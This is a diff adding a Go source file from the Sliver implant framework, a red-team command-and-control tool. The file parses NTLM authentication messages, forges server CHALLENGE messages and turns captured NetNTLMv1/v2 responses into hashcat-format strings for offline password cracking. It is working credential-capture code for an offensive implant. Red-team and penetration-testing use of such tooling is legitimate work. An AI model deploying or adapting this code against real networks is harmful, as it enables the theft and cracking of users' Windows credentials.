@@ -0,0 +1,244 @@
+package ntlm
+
+/*
+	Sliver Implant Framework
+	Copyright (C) 2023  Bishop Fox
+
+	This program is free software: you can redistribute it and/or modify
+	it under the terms of the GNU General Public License as published by
+	the Free Software Foundation, either version 3 of the License, or
+	(at your option) any later version.
+
+	This program is distributed in the hope that it will be useful,
+	but WITHOUT ANY WARRANTY; without even the implied warranty of
+	MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+	GNU General Public License for more details.
+
+	You should have received a copy of the GNU General Public License
+	along with this program.  If not, see <https://www.gnu.org/licenses/>.
+*/
+
+import (
+	"bytes"
+	"encoding/binary"
+	"errors"
+	"fmt"
+	"time"
+	"unicode/utf16"
+)
+
+const (
+	negotiateMessage    = 1
+	challengeMessage    = 2
+	authenticateMessage = 3
+
+	negotiateUnicode                 = 0x00000001
+	requestTarget                    = 0x00000004
+	negotiateSign                    = 0x00000010
+	negotiateNTLM                    = 0x00000200
+	negotiateAlwaysSign              = 0x00008000
+	targetTypeDomain                 = 0x00010000
+	negotiateExtendedSessionSecurity = 0x00080000
+	negotiateTargetInfo              = 0x00800000
+	negotiateVersion                 = 0x02000000
+	negotiate128                     = 0x20000000
+	negotiateKeyExchange             = 0x40000000
+	negotiate56                      = 0x80000000
+
+	challengeFlags = negotiateUnicode | requestTarget | negotiateSign | negotiateNTLM | negotiateAlwaysSign |
+		targetTypeDomain | negotiateExtendedSessionSecurity | negotiateTargetInfo | negotiateVersion |
+		negotiate128 | negotiateKeyExchange | negotiate56
+
+	// AV_PAIR ids of the challenge's target info
+	avEOL             = 0
+	avNbComputerName  = 1
+	avNbDomainName    = 2
+	avDNSComputerName = 3
+	avDNSDomainName   = 4
+	avTimestamp       = 7
+
+	// maxMessageSize - Bigger messages are garbage that happens to contain the signature
+	maxMessageSize = 64 * 1024
+
+	// Hash types, named after hashcat's modes
+	NetNTLMv1 = "NetNTLMv1"
+	NetNTLMv2 = "NetNTLMv2"
+)
+
+var (
+	signature = []byte("NTLMSSP\x00")
+
+	// version - Windows 10.0 build 17763, NTLM revision 15
+	version = []byte{10, 0, 0x63, 0x45, 0, 0, 0, 15}
+
+	errTruncated = errors.New("{{if .Config.Debug}}truncated ntlm message{{end}}")
+	errInvalid   = errors.New("{{if .Config.Debug}}invalid ntlm message{{end}}")
+	errAnonymous = errors.New("{{if .Config.Debug}}anonymous authentication{{end}}")
+)
+
+// Authenticate - The fields of an AUTHENTICATE_MESSAGE that make up a hash
+type Authenticate struct {
+	Flags       uint32
+	LMResponse  []byte
+	NTResponse  []byte
+	Domain      string
+	User        string
+	Workstation string
+}
+
+// messageType - The type of the ntlm message at the start of data
+func messageType(data []byte) (uint32, error) {
+	if len(data) < 12 {
+		return 0, errTruncated
+	}
+	if !bytes.Equal(data[:len(signature)], signature) {
+		return 0, errInvalid
+	}
+	return binary.LittleEndian.Uint32(data[8:]), nil
+}
+
+// payload - The data of the length/max length/offset field at offset
+func payload(data []byte, offset int) ([]byte, error) {
+	if len(data) < offset+8 {
+		return nil, errTruncated
+	}
+	length := int(binary.LittleEndian.Uint16(data[offset:]))
+	start := int(binary.LittleEndian.Uint32(data[offset+4:]))
+	if length == 0 {
+		return []byte{}, nil
+	}
+	if maxMessageSize < start+length {
+		return nil, errInvalid
+	}
+	if len(data) < start+length {
+		return nil, errTruncated
+	}
+	return data[start : start+length], nil
+}
+
+// ParseChallenge - The server challenge of a CHALLENGE_MESSAGE
+func ParseChallenge(data []byte) ([]byte, error) {
+	msgType, err := messageType(data)
+	if err != nil {
+		return nil, err
+	}
+	if msgType != challengeMessage {
+		return nil, errInvalid
+	}
+	if len(data) < 32 {
+		return nil, errTruncated
+	}
+	return append([]byte{}, data[24:32]...), nil
+}
+
+// ParseAuthenticate - Parse an AUTHENTICATE_MESSAGE
+func ParseAuthenticate(data []byte) (*Authenticate, error) {
+	msgType, err := messageType(data)
+	if err != nil {
+		return nil, err
+	}
+	if msgType != authenticateMessage {
+		return nil, errInvalid
+	}
+	if len(data) < 64 {
+		return nil, errTruncated
+	}
+	auth := &Authenticate{Flags: binary.LittleEndian.Uint32(data[60:])}
+	fields := make([][]byte, 5)
+	for index, offset := range []int{12, 20, 28, 36, 44} {
+		fields[index], err = payload(data, offset)
+		if err != nil {
+			return nil, err
+		}
+	}
+	auth.LMResponse = append([]byte{}, fields[0]...)
+	auth.NTResponse = append([]byte{}, fields[1]...)
+	auth.Domain = auth.decode(fields[2])
+	auth.User = auth.decode(fields[3])
+	auth.Workstation = auth.decode(fields[4])
+	return auth, nil
+}
+
+func (a *Authenticate) decode(data []byte) string {
+	if a.Flags&negotiateUnicode == 0 {
+		return string(data)
+	}
+	return decodeUTF16(data)
+}
+
+// Hash - The authentication in hashcat's format, v2 responses are longer than
+// the 24 bytes of a v1 response
+func Hash(auth *Authenticate, serverChallenge []byte) (string, string, error) {
+	switch {
+	case auth.User == "" || len(auth.NTResponse) == 0:
+		return "", "", errAnonymous
+	case len(auth.NTResponse) == 24:
+		return NetNTLMv1, fmt.Sprintf("%s::%s:%x:%x:%x", auth.User, auth.Domain, auth.LMResponse, auth.NTResponse, serverChallenge), nil
+	case 24 < len(auth.NTResponse):
+		return NetNTLMv2, fmt.Sprintf("%s::%s:%x:%x:%x", auth.User, auth.Domain, serverChallenge, auth.NTResponse[:16], auth.NTResponse[16:]), nil
+	default:
+		return "", "", errInvalid
+	}
+}
+
+// NewChallenge - A CHALLENGE_MESSAGE for a server in a workgroup
+func NewChallenge(serverChallenge []byte, domain string, computer string, now time.Time) []byte {
+	timestamp := make([]byte, 8)
+	binary.LittleEndian.PutUint64(timestamp, filetime(now))
+	targetInfo := &bytes.Buffer{}
+	for _, pair := range []struct {
+		id    uint16
+		value []byte
+	}{
+		{avNbDomainName, encodeUTF16(domain)},
+		{avNbComputerName, encodeUTF16(computer)},
+		{avDNSDomainName, encodeUTF16(domain)},
+		{avDNSComputerName, encodeUTF16(computer)},
+		{avTimestamp, timestamp},
+		{avEOL, nil},
+	} {
+		binary.Write(targetInfo, binary.LittleEndian, pair.id)
+		binary.Write(targetInfo, binary.LittleEndian, uint16(len(pair.value)))
+		targetInfo.Write(pair.value)
+	}
+	targetName := encodeUTF16(domain)
+
+	msg := make([]byte, 56, 56+len(targetName)+targetInfo.Len())
+	copy(msg, signature)
+	binary.LittleEndian.PutUint32(msg[8:], challengeMessage)
+	putPayload(msg[12:], len(targetName), 56)
+	binary.LittleEndian.PutUint32(msg[20:], challengeFlags)
+	copy(msg[24:32], serverChallenge)
+	putPayload(msg[40:], targetInfo.Len(), 56+len(targetName))
+	copy(msg[48:], version)
+	msg = append(msg, targetName...)
+	return append(msg, targetInfo.Bytes()...)
+}
+
+func putPayload(field []byte, length int, offset int) {
+	binary.LittleEndian.PutUint16(field, uint16(length))
+	binary.LittleEndian.PutUint16(field[2:], uint16(length))
+	binary.LittleEndian.PutUint32(field[4:], uint32(offset))
+}
+
+// filetime - 100ns intervals since 1601
+func filetime(now time.Time) uint64 {
+	return uint64(now.UnixNano()/100) + 116444736000000000
+}
+
+func encodeUTF16(value string) []byte {
+	chars := utf16.Encode([]rune(value))
+	data := make([]byte, len(chars)*2)
+	for index, char := range chars {
+		binary.LittleEndian.PutUint16(data[index*2:], char)
+	}
+	return data
+}
+
+func decodeUTF16(data []byte) string {
+	chars := make([]uint16, len(data)/2)
+	for index := range chars {
+		chars[index] = binary.LittleEndian.Uint16(data[index*2:])
+	}
+	return string(utf16.Decode(chars))
+}